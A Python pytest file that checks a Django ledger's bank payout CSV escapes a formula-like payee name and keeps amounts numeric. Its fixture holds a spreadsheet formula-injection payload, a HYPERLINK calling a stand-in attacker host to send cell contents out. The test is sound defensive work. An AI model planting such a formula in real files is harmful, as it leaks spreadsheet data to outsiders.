"""The bank payout file escapes a payee named like a formula (issue 12 §1); amounts stay
numbers. The file is written by the shared writer, core/tabular.py."""

from __future__ import annotations

import csv
import io

import pytest

from cunzhan.core.scope import RegionScope
from cunzhan.ledger import payouts
from cunzhan.ledger.models import Account
from tests.ledger.conftest import COUNTY
from tests.ledger.factories import paid_sale

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


@pytest.mark.django_db
def test_payout_file_escapes_a_hostile_payee_and_keeps_amounts(station):
    paid_sale(COUNTY, station, "a", 10_000)
    producer = Account.objects.get(kind="producer")
    Account.objects.filter(pk=producer.pk).update(label=HOSTILE)
    batch = payouts.payout_batch_create(scope=RegionScope.national(), county=COUNTY)
    text = payouts.payout_batch_csv(batch=batch).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    payees = {r[2]: r for r in rows[1:]}
    assert "'" + HOSTILE in payees and HOSTILE not in payees
    assert payees["'" + HOSTILE][6] == "9200"  # the amount in fen stays a number
